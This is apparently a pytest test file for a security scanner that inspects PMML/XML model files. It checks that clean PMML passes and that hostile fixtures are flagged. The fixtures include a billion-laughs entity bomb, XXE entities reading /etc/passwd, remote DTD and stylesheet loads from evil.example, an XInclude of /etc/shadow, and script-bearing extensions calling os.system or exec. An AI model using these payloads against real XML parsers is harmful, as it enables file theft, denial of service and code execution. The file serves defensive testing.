"""PMML / XML: honest PMML 4.4 is clean; DTDs, entities, XXE, XInclude, scripts and external refs are findings."""

from __future__ import annotations

import sys

import pytest

from modelaudit.detect import detect
from tests.conftest import codes, findings, scan

HEADER = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<PMML xmlns="http://www.dmg.org/PMML-4_4" '
          'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
          'xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://www.dmg.org/pmml/v4-4/pmml-4-4.xsd" version="4.4">\n'
          '  <Header copyright="Copyright (c) 2024 Example" description="Iris model">\n'
          '    <Application name="SkLearn2PMML package" version="0.110.0"/>\n'
          '    <Annotation>Trained on the iris data set, see README for details.</Annotation>\n'
          '    <Timestamp>2024-05-01T10:00:00Z</Timestamp>\n'
          '  </Header>\n')
DICTIONARY = ('  <DataDictionary numberOfFields="3">\n'
              '    <DataField name="sepal_length" optype="continuous" dataType="double"/>\n'
              '    <DataField name="petal_width" optype="continuous" dataType="double"/>\n'
              '    <DataField name="y" optype="continuous" dataType="double"/>\n'
              '  </DataDictionary>\n')
REGRESSION = HEADER + DICTIONARY + '''  <RegressionModel functionName="regression" algorithmName="sklearn.linear_model.LinearRegression">
    <Extension name="repr">PMMLPipeline(steps=[('regressor', LinearRegression())])</Extension>
    <MiningSchema>
      <MiningField name="y" usageType="target"/>
      <MiningField name="sepal_length"/>
      <MiningField name="petal_width"/>
    </MiningSchema>
    <Output><OutputField name="predicted_y" optype="continuous" dataType="double" feature="predictedValue"/></Output>
    <RegressionTable intercept="0.5">
      <NumericPredictor name="sepal_length" coefficient="0.25"/>
      <NumericPredictor name="petal_width" coefficient="-1.75"/>
    </RegressionTable>
  </RegressionModel>
</PMML>
'''
TREE = HEADER + DICTIONARY + '''  <TreeModel functionName="regression" missingValueStrategy="nullPrediction" splitCharacteristic="binarySplit">
    <MiningSchema>
      <MiningField name="y" usageType="target"/>
      <MiningField name="petal_width" missingValueTreatment="asIs"/>
    </MiningSchema>
    <Node id="1" score="1.2">
      <True/>
      <Node id="2" score="0.3"><SimplePredicate field="petal_width" operator="lessOrEqual" value="0.8"/></Node>
      <Node id="3" score="2.1"><SimplePredicate field="petal_width" operator="greaterThan" value="0.8"/></Node>
    </Node>
  </TreeModel>
</PMML>
'''


def _write(tmp_path, text: str, name: str = "model.pmml"):
    path = tmp_path / name
    path.write_text(text)
    return path


@pytest.mark.parametrize("text", [REGRESSION, TREE], ids=["regression", "tree"])
def test_honest_pmml_is_clean(tmp_path, text):
    result = scan(_write(tmp_path, text))
    assert findings(result) == [] and result["has_errors"] is False
    assert "pmml" in result["scanner_names"] and result["incomplete_files"] in (0, [], None)


def test_doctype_without_declaration_is_routed_to_the_xml_scanner():
    head = b'<!DOCTYPE PMML [<!ENTITY x "y">]>\n<PMML version="4.4"/>'
    assert detect(head, "m.pmml").format == "xml"
    assert detect(b"<!DOCTYPE html><html></html>", "page.html").format == "text"


BILLION_LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE PMML [\n <!ENTITY lol "lol">\n'
                  + "".join(f' <!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">\n'
                            for i in range(1, 10))
                  + ']>\n<PMML version="4.4"><Header description="&lol9;"/></PMML>\n')


@pytest.mark.parametrize("text,code,needle", [
    (BILLION_LAUGHS, "MA-X101", "entities"),
    ('<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
     '<PMML version="4.4"><Header description="&xxe;"/></PMML>', "MA-X102", "external entities"),
    ('<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>\n'
     '<PMML version="4.4"/>', "MA-X102", "external entities"),
    ('<?xml version="1.0"?>\n<!DOCTYPE PMML SYSTEM "http://evil.example/pmml.dtd">\n<PMML version="4.4"/>',
     "MA-X102", "external DTD"),
    ('<?xml version="1.0"?>\n<!DOCTYPE PMML>\n<PMML version="4.4"/>', "MA-X101", "DOCTYPE"),
    ('<?xml version="1.0"?>\n<PMML xmlns:xi="http://www.w3.org/2001/XInclude" version="4.4">'
     '<xi:include href="file:///etc/shadow" parse="text"/></PMML>', "MA-X102", "XInclude"),
    ('<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>\n'
     '<PMML version="4.4"/>', "MA-X102", "xml-stylesheet"),
])
def test_dtd_entities_and_external_resources(tmp_path, text, code, needle):
    result = scan(_write(tmp_path, text))
    hits = [i for i in result["issues"] if i["rule_code"] == code]
    assert hits and any(needle in i["message"] for i in hits), result["issues"]
    assert "root:" not in str(result["issues"])  # nothing was expanded


def test_body_behind_a_doctype_is_still_checked(tmp_path):
    text = ('<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY a "b">]>\n<PMML version="4.4">'
            '<Extension name="x" extender="python">import os</Extension></PMML>')
    assert {"MA-X101", "MA-X103"} <= codes(scan(_write(tmp_path, text)))


def test_entity_references_are_never_expanded(tmp_path):
    result = scan(_write(tmp_path, BILLION_LAUGHS))
    assert "lollollol" not in str(result)


@pytest.mark.parametrize("extension,needle", [
    ('<Extension name="script" extender="python">import os\nos.system("id")</Extension>', "python"),
    ('<Extension extender="Jython" name="transform" value="__import__(\'os\').popen(\'id\')"/>', "jython"),
    ('<Extension name="js">function f(x) { return require("child_process").execSync("id") }</Extension>', "code"),
    ('<Extension extender="/usr/bin/python3" name="preprocess"/>', "executable"),
    ('<Extension extender="C:\\tools\\run.exe" name="post"/>', "executable"),
    ('<Extension name="hook"><X-Code language="groovy">Runtime.getRuntime().exec("id")</X-Code></Extension>', "code"),
])
def test_script_bearing_extensions(tmp_path, extension, needle):
    text = REGRESSION.replace('<Extension name="repr">', extension + '\n    <Extension name="repr">')
    result = scan(_write(tmp_path, text))
    hits = [i for i in result["issues"] if i["rule_code"] == "MA-X103"]
    assert hits and hits[0]["severity"] == "critical"
    assert needle.lower() in hits[0]["message"].lower()


@pytest.mark.parametrize("attr", ['href="http://evil.example/model.pmml"', 'file="/etc/passwd"',
                                  'location="file:///tmp/m.ser"', 'src="\\\\server\\share\\m.bin"'])
def test_external_references_in_attributes(tmp_path, attr):
    text = TREE.replace('<Node id="1" score="1.2">', f'<Node id="1" score="1.2" {attr}>')
    assert "MA-X104" in codes(scan(_write(tmp_path, text)))


def test_foreign_schema_location_is_reported(tmp_path):
    text = REGRESSION.replace("http://www.dmg.org/pmml/v4-4/pmml-4-4.xsd", "http://evil.example/schema.xsd")
    assert "MA-X104" in codes(scan(_write(tmp_path, text)))


def test_credentials_and_code_in_annotation(tmp_path):
    text = REGRESSION.replace("see README for details.", "key AKIAABCDEFGHIJKLMNOP; exec(payload)")
    assert {"MA-C001", "MA-C002"} <= codes(scan(_write(tmp_path, text)))


def test_malformed_xml_is_incomplete(tmp_path):
    result = scan(_write(tmp_path, '<?xml version="1.0"?>\n<PMML version="4.4"><Header></PMML>'))
    assert "MA-X105" in codes(result) and result["has_errors"] is True


def test_missing_defusedxml_is_incomplete_not_clean(tmp_path, monkeypatch):
    for mod in ("defusedxml", "defusedxml.ElementTree"):
        monkeypatch.setitem(sys.modules, mod, None)
    result = scan(_write(tmp_path, REGRESSION))
    issue = next(i for i in result["issues"] if i["rule_code"] == "MA-S006")
    assert "defusedxml not installed, cannot scan PMML/XML files" in issue["message"]
    assert "modelaudit[pmml]" in issue["message"] and result["has_errors"] is True


# --- hostile shapes found by fuzzing ---------------------------------------------------------------
def test_unknown_encoding_in_the_declaration_is_malformed_not_an_error(tmp_path):
    result = scan(_write(tmp_path, REGRESSION.replace('encoding="UTF-8"', 'encoding="UTB-8"')))
    assert "MA-X105" in codes(result) and "MA-S005" not in codes(result)
    assert result["has_errors"] is True and result["summary"]["exit_code"] == 1


def test_many_doctype_openings_are_not_searched_quadratically(tmp_path):
    # the DTD is blanked by matching its block at the first <!DOCTYPE only: a search retried at each of
    # 60,000 later ones, every one scanning to the end of the file
    text = '<?xml version="1.0"?>\n<!DOCTYPE r [' + "<!DOCTYPE x [" * 60000 + "\n<r/>"
    result = scan(_write(tmp_path, text, "many.xml"))
    assert "MA-X101" in codes(result) and not {"MA-S003", "MA-S005"} & codes(result)
    assert result["has_errors"] is True


def test_nested_extensions_are_each_checked_once(tmp_path):
    # every Extension read all the text below it: 100,000 nested ones meant 5 billion element visits
    depth = 100_000
    body = "<Extension>" * depth + "import os; os.system('echo modelaudit-test')" + "</Extension>" * depth
    result = scan(_write(tmp_path, HEADER + body + "</PMML>\n"))
    hits = [i for i in result["issues"] if i["rule_code"] == "MA-X103"]
    assert len(hits) == 1 and hits[0]["severity"] == "critical"  # the innermost, not once per enclosing one
    assert not {"MA-S003", "MA-S005"} & codes(result)


def test_extension_text_keeps_document_order_and_leaves_nested_extensions_out():
    from defusedxml.ElementTree import fromstring

    from modelaudit.scanners.pmml import _extension_text

    elem = fromstring("<Extension>a<b>b1<c>c</c>b2</b>t1<Extension>inner<d>x</d></Extension>t2<e/>t3</Extension>")
    assert _extension_text(elem) == "ab1cb2t1t2t3"


def test_element_budget_stops_the_parse(tmp_path, monkeypatch):
    from modelaudit.scanners import pmml

    # counted while the tree is built (an element costs ~150 bytes in memory, `<a>` 3 in the file): the parse
    # stops before the end of this never-closed document instead of building it whole
    monkeypatch.setattr(pmml, "MAX_ELEMENTS", 1000)
    result = scan(_write(tmp_path, HEADER + "<a>" * 2000))
    assert any("more than 1000 elements" in i["message"] for i in result["issues"] if i["rule_code"] == "MA-X105")
    assert result["has_errors"] is True
    assert findings(scan(_write(tmp_path, TREE, "tree.pmml")), "info") == []  # far below the budget
